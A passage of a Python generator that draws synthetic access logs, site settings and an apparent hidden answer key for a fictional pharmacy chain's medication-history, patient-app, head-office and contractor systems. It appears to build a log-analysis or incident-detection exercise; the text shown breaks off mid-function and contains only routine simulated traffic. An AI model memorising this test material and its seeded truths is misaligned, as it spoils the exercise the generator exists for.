"""Draw a chain of dispensing pharmacies: settings, log files and the truth about them.

    python pharmacy.py --seed 7 --days 35 --out DIR

Suzukake Pharmacy: 42 branches (six franchised) share a medication-history system (yakureki) and have a reception box each; patients have an app (okusuri),
head office does claims, quality and audit (honbu), visiting pharmacists carry tablets (zaitaku); helpdesk and delivery (haiso) are outsourced; www is public.
The same seed and days give the same bytes. Times inside are seconds since 00:00 JST of the first day.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import heapq
import json
import math
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Callable, Iterable, NamedTuple

HOLIDAYS = {
    date(2026, m, d)
    for m, d in [
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    ]
}
OBON = {date(2026, 8, d) for d in (13, 14, 15)}
DAY = 86400
TOWNS = (
    "川崎駅前 武蔵小杉 溝の口 登戸 鶴見 綱島 日吉 港北 戸塚 大船 藤沢 茅ヶ崎 平塚 小田原 秦野 伊勢原 厚木 海老名 相模原 町田 八王子 立川 府中 "
    "調布 三鷹 吉祥寺 中野 練馬 板橋 赤羽 王子 北千住 亀有 松戸 柏 船橋 津田沼 市川 浦安 葛西 熱海 三島"
).split()
SURNAMES = (
    "佐藤 鈴木 高橋 田中 伊藤 渡辺 山本 中村 小林 加藤 吉田 山田 佐々木 山口 松本 井上 木村 林 斎藤 清水 山崎 森 池田 橋本 阿部 石川 山下 中島 石井 "
    "小川 前田 岡田 長谷川 藤田 後藤 近藤 村上 遠藤 青木 坂本"
).split()
GIVEN = "陽子 健一 美咲 翔太 由美 大輔 恵 直樹 香織 誠 彩 拓也 真理 浩二 千尋 亮 明美 優 智子 剛 里奈 修 奈々 淳 裕子 悠 久美 学".split()
MAILNAME = "tanaka sato suzuki mori ogawa kondo abe ishii hayashi kimura endo aoki sakai ueda noda kudo hara imai ono seki".split()
CRAWLERS = [
    ("66.249.79.", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("157.55.39.", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    (
        "17.241.75.",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
        "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    ),
]
UA_PC = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
]
UA_IPAD = "Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1"
UA_PHONE = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
]
UA_APP = [
    "OkusuriTecho/{a} (iPhone; iOS 18.5; Scale/3.00)",
    "OkusuriTecho/{a} (Android 15; SH-52E)",
    "OkusuriTecho/{a} (Android 14; SO-51D)",
    "OkusuriTecho/{a} (iPhone; iOS 17.6; Scale/2.00)",
]
UA_LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"
UA_FOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:139.0) Gecko/20100101 Firefox/139.0"
CARRIERS = ["49.98.{}.{}", "106.146.{}.{}", "126.205.{}.{}", "133.106.{}.{}"]
HOMES = [
    "118.8.{}.{}",
    "60.115.{}.{}",
    "124.44.{}.{}",
    "219.102.{}.{}",
    "180.57.{}.{}",
    "240b:10:{:x}:{:x}::5",
]
ABROAD = ["185.220.{}.{}", "45.141.{}.{}", "91.240.{}.{}", "193.32.{}.{}", "5.188.{}.{}"]
DOMAINS = {
    "yakureki": "yakureki.suzukake.example",
    "okusuri": "okusuri.suzukake.example",
    "honbu": "honbu.suzukake.example",
    "zaitaku": "zaitaku.suzukake.example",
    "helpdesk": "desk.suzukake.example",
    "haiso": "haiso.hayate-logi.example",
    "www": "www.suzukake.example",
}
HELPDESK_IP = "198.51.100.20"
PARTNER_IP = "203.0.113.77"
VPN = "10.90.0.{}"


SETTINGS = r"""timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri, sat], from: "08:00", to: "20:30", holidays: JP}
user_types:
  - {pattern: '^m[0-9]{7}$', type: customer}
  - {pattern: '^fc(?P<franchise>[0-9]{2})-', type: franchise}
  - {pattern: '^(svc-|SZK\\svc-|SZK\\batch-)', type: system}
  - {pattern: '^(hd|tp|dl-[do])[0-9]+$', type: contractor}
  - {pattern: '^(ph|cl|vp)[0-9]+$', type: staff}
  - {pattern: '^SZK\\', type: staff}
context: {people: people.csv, privileges: privileges.csv, watch: watch.csv}
resources:
  yakureki:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: logout, kind: logout, path: /logout, methods: [POST]}
    - {id: karte, kind: record, path: "/karte/{subject}", level: 3, categories: [name, medical]}
    - {id: karte-part, kind: record, path: "/karte/{subject}/*", level: 3, categories: [name, medical]}
    - {id: patient, kind: record, path: "/patient/{subject}", level: 2, categories: [name, address, phone, insurance]}
    - {id: patient-search, kind: list, path: /patients/search, level: 2, categories: [name]}
    - {id: drug-patients, kind: list, path: "/drug/*", level: 2, categories: [name, medical]}
  uketsuke: [{id: shikaku, kind: record, path: "/shikaku/{subject}", level: 2, categories: [name, insurance]}]
  okusuri:
    - {id: login, kind: login, path: /api/login, methods: [POST], success: [200], failure: [401]}
    - {id: notebook, kind: record, path: "/api/notebook/{subject}", level: 3, categories: [name, medical]}
    - {id: notebook-items, kind: record, path: "/api/notebook/{subject}/items", level: 3, categories: [medical]}
    - {id: family, kind: record, path: "/api/family/{subject}", level: 3, categories: [name, medical]}
    - {id: share, kind: record, path: "/api/share/{subject}", level: 3, categories: [name, medical]}
  honbu:
    - {id: claim, kind: record, path: "/claims/{subject}", level: 3, categories: [name, medical, insurance]}
    - {id: claim-fix, kind: record, path: "/claims/{subject}/fix", level: 3, categories: [name, insurance]}
    - {id: claims, kind: list, path: /claims, level: 2, categories: [name]}
    - {id: review, kind: record, path: "/review/{subject}", level: 3, categories: [name, medical]}
    - {id: staff, kind: record, path: "/staff/{subject}", level: 2, categories: [name, address]}
    - {id: export, kind: export, path: "/export/*", level: 3, categories: [name, medical, insurance]}
    - {id: admin, kind: admin, path: "/admin/*", level: 1}
  zaitaku:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: residents, kind: list, path: "/homes/*", level: 2, categories: [name]}
    - {id: resident, kind: record, path: "/residents/{subject}", level: 3, categories: [name, medical]}
    - {id: report, kind: record, path: "/residents/{subject}/report", level: 3, categories: [name, medical]}
  helpdesk:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: search, kind: list, path: /members/search, level: 2, categories: [name, phone]}
    - {id: member, kind: record, path: "/members/{subject}", level: 2, categories: [name, phone, mail]}
  haiso:
    - {id: login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: deliveries, kind: list, path: /deliveries, level: 2, categories: [name, address]}
    - {id: delivery, kind: record, path: "/deliveries/{subject}", level: 2, categories: [name, address, phone]}
sites:
  - {id: yakureki, group: main, domains: [yakureki.suzukake.example], logs: ["yakureki/*/access_log.*"], hours: always, resources: yakureki,
     format: '%h %l %u %t "%r" %>s %b %D "%{Referer}i" "%{User-Agent}i" "%{SZKSESSID}C"'}
  - {id: "uketsuke-{store}", group: branches, domains: ["uketsuke{store}.suzukake.example"], logs: ["uketsuke/{store}/access.log-*"], format: common, roster: stores.csv,
     hours: always, resources: uketsuke}
  - {id: okusuri, group: main, domains: [okusuri.suzukake.example], logs: ["okusuri/access-*.json.gz"], hours: always, resources: okusuri, trusted_proxies: [10.60.0.0/24],
     format: '{"time": "$time_iso8601", "host": "$host", "addr": "$remote_addr", "xff": "$http_x_forwarded_for", "user": "$remote_user", "request": "$request", "status": "$status", "bytes": "$body_bytes_sent", "rt": "$request_time", "referer": "$http_referer", "ua": "$http_user_agent", "sid": "$cookie_okusuri_sid"}'}
  - {id: honbu, group: main, domains: [honbu.suzukake.example], logs: ["honbu/u_ex*.log"], format: auto, hours: business, resources: honbu}
  - {id: zaitaku, group: main, domains: [zaitaku.suzukake.example], logs: ["zaitaku/access.ltsv.*"], hours: business, resources: zaitaku,
     format: 'time:%t\thost:%h\tuser:%u\treq:%r\tstatus:%>s\tsize:%B\tua:%{User-Agent}i\treferer:%{Referer}i\tvhost:%v\treqtime_microsec:%D'}
  - {id: helpdesk, group: partners, domains: [desk.suzukake.example], logs: ["helpdesk/other_vhosts_access.log-*"], format: auto, hours: always, resources: helpdesk}
  - {id: haiso, group: partners, domains: [haiso.hayate-logi.example], logs: ["haiso/access_*.log"], format: combined, hours: always, resources: haiso}
  - {id: www, group: main, domains: [www.suzukake.example], logs: ["www/alb_*.log.gz"], format: auto, hours: always}
"""


class Hit(
    NamedTuple(
        "Hit",
        [
            ("t", float),
            ("ip", str),
            ("user", str),
            ("method", str),
            ("target", str),
            ("status", int),
            ("size", int),
            ("ms", int),
            ("ref", str),
            ("ua", str),
            ("sid", str),
            ("tag", str),
        ],
    )
):
    """One request as the servers saw it."""


@dataclass
class Person:
    """Somebody with an account; `late` is the share of histories written after closing time."""

    uid: str
    role: str
    store: int = 0
    weekdays: frozenset[int] = frozenset(range(5))
    ua: str = ""
    weight: float = 1.0  # noqa: E702
    person: str = ""
    name: str = ""
    dept: str = ""
    company: str = ""
    joined: date | None = None
    left: date | None = None  # noqa: E702
    manager: str = ""
    off: set[int] = field(default_factory=set)
    late: float = 0.25  # noqa: E702


@dataclass
class Store:
    """A branch: its hours, size and patients."""

    no: int
    kind: str
    mean: float
    fc: bool
    patients: int = 0
    due: list[tuple[float, int]] = field(default_factory=list)  # noqa: E702
    net: str = ""
    opened: int = -9999
    closed: int = 9999  # noqa: E702
    shut: set[int] = field(default_factory=set)
    extra: set[int] = field(default_factory=set)  # noqa: E702

    @property
    def site(self) -> str:
        return f"uketsuke-{self.no:02d}"


@dataclass
class Session:
    """A signed-in stretch of one person's day."""

    sid: str
    ip: str
    ua: str
    t0: float
    t1: float
    store: int  # noqa: E702


class World:
    """The company over the days drawn, and all requests made to it."""

    def __init__(self, seed: int, days: int) -> None:
        self.rng, self.seed, self.n = Random(seed), seed, days
        last = date(2026, 4, 30) + timedelta(days=self.rng.randint(0, 214))
        self.days = [last - timedelta(days=days - 1 - i) for i in range(days)]
        self.hits: dict[str, list[Hit]] = {}
        self.lost: list[
            tuple[str, int | None, float, float]
        ] = []  # site, node, from, to: lines that never came
        self.down: list[tuple[str, float, float]] = []  # site, from, to: answers 503
        self.sick: list[
            tuple[str, float, float, float, int, str, str]
        ] = []  # site, from, to, share, status, only in ua, tag
        self.shift: list[tuple[str, float, float, float, str]] = []  # site, from, to, seconds, tag
        self.incidents, self.annoyances, self.used = list[dict](), list[dict](), set[str]()
        self.sess, self.visited = (
            dict[tuple[str, int], Session](),
            dict[tuple[int, int], set[int]](),
        )
        self.boost, self.seen = (
            dict[tuple[str, int], float](),
            dict[str, tuple[int, set[int], set[str]]](),
        )
        self.watch, self.priv, self.dup_day = list[tuple[str, ...]](), list[tuple[str, ...]](), -1

    # ---- small helpers -------------------------------------------------------------------------------------------------
    def poisson(self, mean: float) -> int:
        """A Poisson number, by the normal curve when the mean is large."""
        if mean <= 0:
            return 0
        if mean > 60:
            return max(0, round(self.rng.gauss(mean, math.sqrt(mean))))
        limit, k, p = math.exp(-mean), 0, self.rng.random()
        while p > limit:
            k += 1
            p *= self.rng.random()
        return k

    def nb(self, mean: float, k: float = 6.0) -> int:
        """An overdispersed count."""
        return self.poisson(self.rng.gammavariate(k, mean / k)) if mean > 0 else 0

    def hexid(self, n: int = 32) -> str:
        return f"{self.rng.getrandbits(4 * n):0{n}x}"

    def wd(self, d: int) -> int:
        return self.days[d].weekday()

    def holiday(self, d: int) -> bool:
        return self.days[d] in HOLIDAYS

    def workday(self, d: int) -> bool:
        return self.wd(d) < 5 and not self.holiday(d)

    def ymd(self, d: int) -> str:
        return self.days[max(0, min(self.n - 1, d))].isoformat()

    def ua(self, template: str, d: int) -> str:
        """A browser's agent: the main version rises every four weeks."""
        return template.replace("{v}", str(143 + (self.days[d] - date(2026, 2, 1)).days // 28))

    def mobile(self) -> str:
        return self.rng.choice(CARRIERS).format(self.rng.randint(0, 31), self.rng.randint(1, 250))

    def home(self) -> str:
        return self.rng.choice(HOMES).format(self.rng.randint(1, 250), self.rng.randint(1, 250))

    def abroad(self) -> str:
        return self.rng.choice(ABROAD).format(self.rng.randint(1, 250), self.rng.randint(1, 250))

    def terminal(self, store: int) -> str:
        return f"{self.stores[store].net}.{self.rng.randint(11, 15)}"

    def add(
        self,
        site: str,
        t: float,
        ip: str,
        user: str,
        method: str,
        target: str,
        status: int = 200,
        size: int = 0,
        ua: str = "",
        sid: str = "",
        ms: int = 0,
        ref: str = "",
        tag: str = "",
    ) -> None:
        """Put one request into a site's log; size and duration are drawn where not told."""
        if t < 0 or t >= self.n * DAY:
            return
        size = size or (
            int(self.rng.lognormvariate(8.3, 0.6))
            if status < 300
            else 0
            if status in (302, 304)
            else self.rng.randint(180, 900)
        )
        ms = ms or max(2, int(self.rng.lognormvariate(4.3, 0.8)))
        self.hits.setdefault(site, []).append(
            Hit(t, ip, user, method, target, status, size, ms, ref, ua, sid, tag)
        )

    # ---- who and where -------------------------------------------------------------------------------------------------
    def found(self) -> None:
        """Draw the branches, the people and the members."""
        r = self.rng
        self.stores: dict[int, Store] = {}
        fcs = set(r.sample(range(10, 40), 6))
        for no in range(1, 43):
            kind = (
                "mall"
                if no in (2, 9, 20, 26, 36, 39)
                else "hospital"
                if no in (5, 15, 23, 31)
                else r.choice(["street"] * 3 + ["clinic"])
            )
            mean = {"mall": 14, "hospital": 26, "street": 12, "clinic": 11}[
                kind
            ] * r.lognormvariate(0, 0.35)
            s = Store(no, kind, min(mean, 40), no in fcs, net=f"10.42.{no}")
            s.patients = int(s.mean * r.uniform(26, 40)) + 150
            for n in range(1, s.patients + 1):
                if r.random() < 0.75:
                    heapq.heappush(s.due, (r.uniform(-3, 35), n))
            self.stores[no] = s
        self.people: list[Person] = []
        serial = iter(r.sample(range(1001, 1999), 420))
        for s in self.stores.values():
            fcno = 0
            boss = ""
            for role, count in (
                ("ph", max(2, round(s.mean / 9 + 0.4)) + (1 if s.kind == "mall" else 0)),
                ("cl", max(1, round(s.mean / 11)) + 1),
            ):
                for i in range(count):
                    opendays = range(7) if s.kind == "mall" else range(6)
                    wds = frozenset(
                        r.sample(
                            list(opendays), 5 if i == 0 or r.random() < 0.6 else r.randint(2, 4)
                        )
                    )
                    if i == 0 and s.kind != "mall":
                        wds = frozenset(range(6))
                    fcno += 1
                    uid = f"fc{s.no:02d}-{fcno:02d}" if s.fc else f"{role}{next(serial)}"
                    p = Person(
                        uid,
                        role,
                        s.no,
                        wds,
                        r.choice(UA_PC),
                        r.lognormvariate(0, 0.5),
                        late=min(0.9, r.betavariate(1.2, 3)),
                    )
                    p.dept = "薬剤師" if role == "ph" else "医療事務"
                    boss = boss or uid
                    p.manager = boss if uid != boss else ""
                    self.people.append(p)
        for i in range(7):
            self.people.append(
                Person(
                    f"ph{next(serial)}",
                    "helper",
                    0,
                    frozenset(range(6)),
                    UA_PC[0],
                    1.0,
                    dept="応援薬剤師",
                )
            )
        for i in range(14):
            self.people.append(
                Person(
                    f"vp{i + 1:02d}",
                    "visit",
                    0,
                    frozenset(r.sample(range(6), 5))
                    if i < 11
                    else frozenset(r.sample(range(5), 3)),
                    UA_IPAD,
                    r.lognormvariate(0, 0.4),
                    dept="在宅推進課",
                )
            )
        names = iter(r.sample([f"{m}.{c}" for m in MAILNAME for c in "akmty"], 40))
        for role, dept, count in (
            ("claims", "請求課", 10),
            ("quality", "品質管理室", 4),
            ("audit", "監査室", 2),
            ("it", "情報システム室", 3),
            ("hr", "人事課", 2),
            ("area", "エリア統括", 5),
        ):
            for i in range(count):
                self.people.append(
                    Person(
                        "SZK\\" + next(names),
                        role,
                        0,
                        frozenset(range(5)),
                        UA_PC[0],
                        r.lognormvariate(0, 0.5),
                        dept=dept,
                    )
                )
        for i in range(20):
            self.people.append(
                Person(
                    f"hd{i + 1:02d}",
                    "desk",
                    0,
                    frozenset(r.sample(range(7), r.choice([5, 5, 5, 4, 3]))),
                    UA_PC[1],
                    r.lognormvariate(0, 0.3),
                    dept="コールセンター",
                    company="みなみコンタクト株式会社",
                )
            )
        for i in range(9):
            self.people.append(
                Person(
                    f"dl-d{i + 1:02d}",
                    "driver",
                    i,
                    frozenset(r.sample(range(6), 5)),
                    self.ua(UA_PHONE[1], 0),
                    1.0,
                )
            )
        for i in range(3):
            self.people.append(
                Person(
                    f"dl-o{i + 1:02d}",
                    "dispatch",
                    0,
                    frozenset(r.sample(range(6), 5)),
                    UA_PC[1],
                    1.0,
                )
            )
        for k, p in enumerate(self.people):
            p.person, p.name = f"E{20001 + k}", f"{r.choice(SURNAMES)} {r.choice(GIVEN)}"
            p.joined = date(2026 - r.choice([1, 2, 3, 5, 8, 12]), r.choice([4, 4, 4, 7, 10]), 1)
            p.off = {
                d for d in range(self.n) if r.random() < (0.25 if self.days[d] in OBON else 0.045)
            }
            if r.random() < 0.25:  # a week's holiday
                a = r.randrange(self.n)
                p.off |= set(range(a, a + r.randint(4, 8)))
        self.by: dict[str, Person] = {p.uid: p for p in self.people}
        self.members = [f"m{n:07d}" for n in sorted(r.sample(range(20000, 26000), 1600))]
        self.mweight = [r.paretovariate(1.3) for _ in self.members]
        self.mhome = {m: self.home() for m in self.members}
        self.mua = {
            m: r.choice(UA_APP) if r.random() < 0.7 else r.choice(UA_PHONE) for m in self.members
        }
        self.mkids: dict[str, list[str]] = {
            m: [f"m{r.randint(30000, 36000):07d}" for _ in range(r.choice([1, 1, 2, 3]))]
            for m in self.members
            if r.random() < 0.22
        }
        self.homes = {
            f: [f"R{f * 100 + i:05d}" for i in range(r.randint(18, 60))] for f in range(1, 23)
        }
        visits = [p for p in self.people if p.role == "visit"]
        self.rounds = {p.uid: r.sample(range(1, 23), r.randint(4, 6)) for p in visits}
        self.wifi = {f: self.home() for f in self.homes}
        self.routes = {
            i: [f"{r.randint(1, 42):02d}{r.randint(1, 400):05d}" for _ in range(65)]
            for i in range(9)
        }
        self.typhoon = {r.randrange(4, self.n - 1)} if self.days[-1].month >= 7 else set()
        self.oncall = r.sample(
            [p for p in self.people if p.role == "ph" and not self.stores[p.store].fc], 6
        )

    def role(self, *roles: str) -> list[Person]:
        return [p for p in self.people if p.role in roles]

    def employed(self, p: Person, d: int) -> bool:
        day = self.days[d]
        return (p.joined is None or p.joined <= day) and (p.left is None or day <= p.left)

    def works(self, p: Person, d: int) -> bool:
        return self.wd(d) in p.weekdays and d not in p.off and self.employed(p, d)

    def works_days(self, p: Person) -> list[int]:
        return [d for d in range(self.n) if self.works(p, d)]

    def hours(self, s: Store, d: int) -> tuple[float, float] | None:
        """Opening hours of a branch on a day in hours, or None."""
        if d < s.opened or d >= s.closed or d in s.shut:
            return None
        if d in s.extra:
            return 9.0, 17.0
        if s.kind == "mall":
            return 10.0, 21.0
        if self.holiday(d) or self.wd(d) == 6 or (s.kind == "clinic" and self.days[d] in OBON):
            return None
        early = 16.0 if d in self.typhoon else 99.0
        if self.wd(d) == 5:
            return None if s.kind == "hospital" else (9.0, min(13.5, early))
        if s.kind == "clinic" and self.wd(d) == 3:
            return 9.0, 13.0
        return (8.5, min(17.5, early)) if s.kind == "hospital" else (9.0, min(19.0, early))

    def pick(
        self, people: Iterable[Person], ok: Callable[[Person], bool] = lambda p: True
    ) -> Person:
        """Somebody not yet used by another story."""
        pool = [p for p in people if p.uid not in self.used and p not in self.oncall and ok(p)]
        p = self.rng.choice(pool)
        self.used.add(p.uid)
        return p

    def unvisited(self, store: int, d: int, count: int, low: int = 1) -> list[str]:
        """Patients of a branch, from number `low` upward, who did not come that day."""
        seen = self.visited.get((store, d), set())
        out = [n for n in range(low, self.stores[store].patients + 1) if n not in seen][:count]
        return [f"{store:02d}{n:05d}" for n in out]

    def strangers(self, store: int, d: int, count: int) -> list[str]:
        """Random patients of a branch who did not come that day."""
        seen = self.visited.get((store, d), set())
        out: list[str] = []
        while len(out) < count:
            n = self.rng.randint(1, self.stores[store].patients)
            if n not in seen:
                out.append(f"{store:02d}{n:05d}")
        return out

    # ---- medication history and reception boxes --------------------------------------------------------------------------
    def login(
        self, p: Person, d: int, t: float, ip: str, store: int = 0, ua: str = "", tag: str = ""
    ) -> Session:
        """Sign in at the medication history, now and then with a typing error first."""
        r = self.rng
        ua = ua or self.ua(p.ua, d)
        while r.random() < 0.06 and not tag:
            self.add(
                "yakureki",
                t - r.uniform(6, 25),
                ip,
                p.uid,
                "POST",
                "/login",
                401,
                ua=ua,
                ref="/login",
            )
        sid = self.hexid()
        s = Session(sid, ip, ua, t, t, store)
        if not tag:
            self.sess[(p.uid, d)] = s
        self.add(
            "yakureki", t, ip, p.uid, "POST", "/login", 302, ua=ua, sid=sid, ref="/login", tag=tag
        )
        self.add("yakureki", t + 1, ip, p.uid, "GET", "/home", 200, ua=ua, sid=sid, tag=tag)
        return s

    def look(
        self, p: Person, s: Session, t: float, pid: str, what: str = "karte", tag: str = ""
    ) -> None:
        """Open one patient's history (karte), face sheet (patient) or leaflet (yakujo)."""
        path = f"/karte/{pid}/yakujo" if what == "yakujo" else f"/{what}/{pid}"
        self.add(
            "yakureki",
            t,
            s.ip,
            p.uid,
            "GET",
            path,
            ua=s.ua,
            sid=s.sid,
            ref="/uketsuke" if what == "patient" else f"/patient/{pid}",
            tag=tag,
        )
        s.t1 = max(s.t1, t)

    def store_day(self, s: Store, d: int) -> None:
        """A branch's day: staff sign in, patients come, histories are read and written."""
        r = self.rng
        base = d * DAY
        boxed = s.opened <= d < s.closed
        for h in (7, 13, 19):
            if boxed and d not in s.shut:
                self.add(
                    s.site,
                    base + h * 3600 + s.no * 7 + r.random() * 3,
                    "10.40.0.9",
                    "",
                    "GET",
                    "/health",
                    200,
                    15,
                    "suzukake-monitor/1.2",
                )
        hrs = self.hours(s, d)
        if not hrs:
            return
        if s is self.moving[0] and d >= self.moving[1]:
            s.net = f"10.43.{s.no}"
        a, b = base + hrs[0] * 3600, base + hrs[1] * 3600
        ph = [p for p in self.people if p.store == s.no and p.role == "ph" and self.works(p, d)]
        cl = [p for p in self.people if p.store == s.no and p.role == "cl" and self.works(p, d)]
        if not ph and not s.fc:
            free = [
                p
                for p in self.role("helper")
                if self.works(p, d) and (p.uid, d) not in self.sess and p.uid not in self.used
            ]
            ph = [r.choice(free)] if free else []
        if not ph:
            ph = [
                next(
                    p
                    for p in self.people
                    if p.store == s.no
                    and p.role == "ph"
                    and self.employed(p, d)
                    and p is not self.dormant
                )
            ]
        cl = cl or [
            next(
                p for p in self.people if p.store == s.no and p.role == "cl" and self.employed(p, d)
            )
        ]
        ph += [p for p, where, days in self.helpers if where == s.no and d in days]
        for p in ph + cl:
            self.login(p, d, a - r.uniform(-300, 1500), self.terminal(s.no), s.no)
        week = {0: 1.25, 1: 1.0, 2: 0.95, 3: 0.85, 4: 1.1, 5: 0.65, 6: 0.8}[self.wd(d)]
        after = (
            1.35 if d and not self.workday(d - 1) and self.workday(d) and self.wd(d) > 0 else 1.0
        )
        n = self.nb(
            s.mean
            * week
            * after
            * self.boost.get(("visits", d), 1.0)
            * (0.4 if d in self.typhoon else 1)
            * (hrs[1] - hrs[0])
            / 10,
            12,
        )
        seen = self.visited.setdefault((s.no, d), set())
        for _ in range(n):
            u = r.random()
            t = a + (b - a - 600) * (
                0.05 + 0.3 * r.betavariate(2, 2)
                if u < 0.5
                else 0.65 + 0.35 * r.betavariate(2, 2)
                if u < 0.85
                else r.random()
            )
            if s.due and s.due[0][0] <= d:
                num = heapq.heappop(s.due)[1]
            else:
                s.patients += 1
                num = s.patients
            cycle = r.choice([7, 14, 14, 28, 28, 28, 28, 30, 35, 56, 90]) + r.choice(
                [-2, -1, 0, 0, 0, 1, 2, 4]
            )
            heapq.heappush(s.due, (d + cycle, num))
            if r.random() < 0.025:  # a patient of another branch
                o = r.choice([x for x in self.stores.values() if x.no != s.no])
                pid = f"{o.no:02d}{r.randint(1, o.patients):05d}"
                self.visited.setdefault((o.no, d), set()).add(int(pid[2:]))
            else:
                pid = f"{s.no:02d}{num:05d}"
                seen.add(num)
            self.visit(
                s,
                d,
                t,
                b,
                pid,
                r.choices(ph, [p.weight for p in ph])[0],
                r.choices(cl, [p.weight for p in cl])[0],
            )
        for p in ph + cl:
            ses = self.sess[(p.uid, d)]
            if r.random() < 0.6:
                self.add(
                    "yakureki",
                    max(ses.t1 + 60, b - r.uniform(0, 600)),
                    ses.ip,
                    p.uid,
                    "POST",
                    "/logout",
                    302,
                    ua=ses.ua,
                    sid=ses.sid,
                )
            for _ in range(r.randint(1, 4) if p in cl else 0):
                self.add(
                    "yakureki",
                    r.uniform(a, b),
                    ses.ip,
                    p.uid,
                    "GET",
                    "/uketsuke",
                    ua=ses.ua,
                    sid=ses.sid,
                )

    def visit(
        self, s: Store, d: int, t: float, close: float, pid: str, ph: Person, cl: Person
    ) -> None:
        """One patient's visit with a prescription."""
        r = self.rng
        box = f"{s.net}.50"
        self.add(s.site, t, box, "", "POST", "/checkin", 200, 412)
        if r.random() < 0.7:
            self.add(s.site, t + r.uniform(4, 40), box, "", "GET", f"/shikaku/{pid}", 200)
        c, p = self.sess[(cl.uid, d)], self.sess[(ph.uid, d)]
        t1 = t + r.uniform(30, 240)
        if r.random() < 0.15:
            self.add(
                "yakureki",
                t1 - 8,
                c.ip,
                cl.uid,
                "POST",
                "/patients/search",
                ua=c.ua,
                sid=c.sid,
                ref="/uketsuke",
            )
        self.look(cl, c, t1, pid, "patient")
        t2 = t1 + r.lognormvariate(6.0, 0.6)
        self.look(ph, p, t2, pid)
        if r.random() < 0.55:
            self.look(ph, p, t2 + r.uniform(60, 300), pid, "yakujo")
        t3 = t2 + r.lognormvariate(5.6, 0.7)
        if r.random() < ph.late:  # the history is written after closing time
            t3 = max(t3, close + r.uniform(3, 25) * 60 * (1 + 2 * ph.late))
            self.look(ph, p, t3 - r.uniform(30, 120), pid)
        self.add(
            "yakureki",
            t3,
            p.ip,
            ph.uid,
            "POST",
            f"/karte/{pid}/soap",
            200,
            ua=p.ua,
            sid=p.sid,
            ref=f"/karte/{pid}",
        )
        p.t1 = max(p.t1, t3)

    def night_calls(self, d: int) -> None:
        """The pharmacist on call (a week each) answers by VPN at night."""
        r = self.rng
        p = self.oncall[((self.days[d] - date(2026, 1, 5)).days // 7) % len(self.oncall)]
        for _ in range(self.nb(0.9, 1.5)):
            t = d * DAY + r.choice([r.uniform(21, 24), r.uniform(0, 6)]) * 3600
            keep = self.sess.get((p.uid, d))
            s = self.login(p, d, t, VPN.format(20 + self.oncall.index(p)))
            if keep:
                self.sess[(p.uid, d)] = keep
            for i in range(r.randint(1, 3)):
                pid = self.strangers(p.store, d, 1)[0]
                self.look(p, s, t + 40 + i * r.uniform(60, 200), pid)
                if r.random() < 0.7:
                    self.add(
                        "yakureki",
                        t + 400 + i * 90,
                        s.ip,
                        p.uid,
                        "POST",
                        f"/karte/{pid}/soap",
                        ua=s.ua,
                        sid=s.sid,
                    )

    # ---- head office, care homes, help desk, delivery ----------------------------------------------------------------------
    def iis(
        self,
        p: Person,
        t: float,
        target: str,
        method: str = "GET",
        size: int = 0,
        ip: str = "",
        status: int = 200,
        tag: str = "",
    ) -> None:
        """One request at head office's server."""
        d = max(0, min(self.n - 1, int(t // DAY)))
        nr = self.people.index(p) % 200 + 11
        self.add(
            "honbu",
            t,
            ip or f"10.40.1.{nr}",
            p.uid,
            method,
            target,
            status,
            size,
            self.ua(p.ua, d),
            tag=tag,
        )

    def honbu_day(self, d: int) -> None:
        """Claims, reviews, managers' figures; the first ten days of a month are the claims season."""
        r = self.rng
        dom, base = self.days[d].day, d * DAY
        season = 2.6 if dom <= 10 else 1.5 if 20 <= dom <= 25 else 1.0
        for p in self.role("claims", "quality", "audit", "it", "hr", "area"):
            rush = p.role == "claims" and dom <= 10
            if not (self.works(p, d) and not self.holiday(d)) and not (
                rush and r.random() < (0.5 if self.wd(d) == 5 else 0.25) and self.employed(p, d)
            ):
                continue
            a, b = (
                base + r.gauss(8.9, 0.2) * 3600,
                base
                + (r.uniform(19, 21.8) if rush and r.random() < 0.6 else r.gauss(18.1, 0.5)) * 3600,
            )
            ip = (
                f"10.42.{r.randint(1, 42)}.{r.randint(11, 15)}"
                if p.role == "area" and r.random() < 0.5
                else ""
            )
            if not ip:
                self.add(
                    "honbu",
                    a - 1,
                    f"10.40.1.{self.people.index(p) % 200 + 11}",
                    "",
                    "GET",
